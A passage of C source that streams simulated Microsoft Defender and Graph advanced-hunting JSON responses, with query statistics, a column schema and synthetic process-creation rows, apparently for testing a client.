	{ "AccountName", "String" }, { "InitiatingProcessFileName", "String" },
	{ "InitiatingProcessCommandLine", "String" },
	{ "InitiatingProcessParentFileName", "String" },
	{ "ReportId", "Int64" },
};

#define NCOLS	(sizeof(hunt_cols) / sizeof(hunt_cols[0]))
#define NPROCS	(sizeof(procs) / sizeof(procs[0]))
#define NDEVS	(sizeof(devs) / sizeof(devs[0]))

struct sim_hunt {
	long		 rows, next;
	enum sim_hunt_shape shape;
	int		 phase;		/* 0 head, 1 rows, 2 tail, 3 end */
	long long	 t0;
	struct buf	 pend;
	size_t		 off;
};

struct sim_hunt *
sim_hunt_new(long rows, long long t0, enum sim_hunt_shape shape)
{
	struct sim_hunt	*h;

	if ((h = calloc(1, sizeof(*h))) == NULL)
		return (NULL);
	h->rows = rows;
	h->shape = shape;
	h->t0 = t0;
	buf_init(&h->pend, 1 << 20);
	return (h);
}

void
sim_hunt_free(struct sim_hunt *h)
{
	if (h == NULL)
		return;
	buf_free(&h->pend);
	free(h);
}

/* The Defender/MDE Stats member, plausible for h->rows rows. */
static void
hunt_stats(cJSON *o, const struct sim_hunt *h)
{
	cJSON	*st, *ru, *c, *m, *ds;
	char	 cpu[32];
	double	 et = 0.0123 + (double)h->rows * 0.0000021;

	st = cJSON_AddObjectToObject(o, "Stats");
	cJSON_AddNumberToObject(st, "ExecutionTime", et);
	ru = cJSON_AddObjectToObject(st, "resource_usage");
	c = cJSON_AddObjectToObject(ru, "cache");
	m = cJSON_AddObjectToObject(c, "memory");
	cJSON_AddNumberToObject(m, "hits", 43);
	cJSON_AddNumberToObject(m, "misses", 1);
	cJSON_AddNumberToObject(m, "total", 44);
	m = cJSON_AddObjectToObject(c, "disk");
	cJSON_AddNumberToObject(m, "hits", 1);
	cJSON_AddNumberToObject(m, "misses", 0);
	cJSON_AddNumberToObject(m, "total", 1);
	c = cJSON_AddObjectToObject(ru, "cpu");
	snprintf(cpu, sizeof(cpu), "00:00:00.%07ld",
	    (long)(et * 1250000.0) % 10000000);
	cJSON_AddStringToObject(c, "user", cpu);
	cJSON_AddStringToObject(c, "kernel", "00:00:00");
	cJSON_AddStringToObject(c, "total cpu", cpu);
	c = cJSON_AddObjectToObject(ru, "memory");
	cJSON_AddNumberToObject(c, "peak_per_node", 16777216 +
	    (double)h->rows * 512);
	ds = cJSON_AddArrayToObject(st, "dataset_statistics");
	c = cJSON_CreateObject();
	cJSON_AddNumberToObject(c, "table_row_count", (double)h->rows);
	cJSON_AddNumberToObject(c, "table_size", (double)h->rows * 640);
	cJSON_AddItemToArray(ds, c);
}

/*
 * Everything before the first row: Defender's Stats and Schema
 * [{Name,Type}], or Graph's @odata.context and schema [{name,type}]; then
 * the opening of the results array.
 */
static int
hunt_head(struct sim_hunt *h)
{
	cJSON	*o = cJSON_CreateObject(), *sch, *col;
	char	*txt;
	int	 rc, g = h->shape == SIM_HUNT_GRAPH;

	if (g)
		cJSON_AddStringToObject(o, "@odata.context",
		    SIM_GRAPH_HUNT_CONTEXT);
	else
		hunt_stats(o, h);
	sch = cJSON_AddArrayToObject(o, g ? "schema" : "Schema");
	for (size_t i = 0; i < NCOLS; i++) {
		col = cJSON_CreateObject();
		cJSON_AddStringToObject(col, g ? "name" : "Name",
		    hunt_cols[i][0]);
		cJSON_AddStringToObject(col, g ? "type" : "Type",
		    hunt_cols[i][1]);
		cJSON_AddItemToArray(sch, col);
	}
	txt = cJSON_PrintUnformatted(o);
	cJSON_Delete(o);
	if (txt == NULL)
		return (-1);
	txt[strlen(txt) - 1] = '\0';	/* drop the closing brace */
	rc = buf_addstr(&h->pend, txt) || buf_addstr(&h->pend, g ?
	    ",\"results\":[" : ",\"Results\":[") ? -1 : 0;
	free(txt);
	return (rc);
}

static int
hunt_row(struct sim_hunt *h, long i)
{
	const struct dev	*d = &devs[(size_t)(i * 7 + i / 3) % NDEVS];
	const struct proc	*p = &procs[(size_t)(i * 5 + i / 7) % NPROCS];
	cJSON			*o = cJSON_CreateObject();
	char			 ts[40], *txt;
	int			 rc;

	sim_time7(h->t0 - 60 - i * 13 - (i % 7), (i * 7919 + 31) % 10000000,
	    ts, sizeof(ts));
	cJSON_AddStringToObject(o, "Timestamp", ts);
	cJSON_AddStringToObject(o, "DeviceId", d->id);
	cJSON_AddStringToObject(o, "DeviceName", d->dns);
	cJSON_AddStringToObject(o, "ActionType", "ProcessCreated");
	cJSON_AddStringToObject(o, "FileName", p->file);
	cJSON_AddStringToObject(o, "FolderPath", p->folder);
	cJSON_AddStringToObject(o, "SHA256", p->sha256);
	cJSON_AddNumberToObject(o, "ProcessId", (double)(1000 + (i * 37) %
	    30000));
	cJSON_AddStringToObject(o, "ProcessCommandLine", p->cmd);
	cJSON_AddStringToObject(o, "AccountDomain", d->domain);
	cJSON_AddStringToObject(o, "AccountName", d->user);
	cJSON_AddStringToObject(o, "InitiatingProcessFileName", p->ifile);
	cJSON_AddStringToObject(o, "InitiatingProcessCommandLine", p->icmd);
	cJSON_AddStringToObject(o, "InitiatingProcessParentFileName",
	    p->parent);
	cJSON_AddNumberToObject(o, "ReportId", (double)(8812 + i * 3));
	txt = cJSON_PrintUnformatted(o);
	cJSON_Delete(o);
	if (txt == NULL)
		return (-1);
	rc = (i > 0 && buf_addstr(&h->pend, ",")) || buf_addstr(&h->pend,
	    txt) ? -1 : 0;
	free(txt);
	return (rc);
}

long
sim_hunt_read(struct sim_hunt *h, char *out, size_t max)
{
	size_t	 n;

	while (h->off >= h->pend.len) {
		buf_reset(&h->pend);
		h->off = 0;
		switch (h->phase) {
		case 0:
			if (hunt_head(h) == -1)
				return (-1);
			h->phase = 1;
			break;
		case 1:
			/* a batch of rows at a time */
			while (h->next < h->rows && h->pend.len < 32768)
				if (hunt_row(h, h->next++) == -1)
					return (-1);
			if (h->next >= h->rows)
				h->phase = 2;
			break;
		case 2:
			if (buf_addstr(&h->pend, "]}") == -1)
				return (-1);
			h->phase = 3;
			break;
		default:
			return (0);
		}
	}
	n = h->pend.len - h->off;
	if (n > max)
		n = max;
	memcpy(out, h->pend.data + h->off, n);
	h->off += n;
	return ((long)n);
}
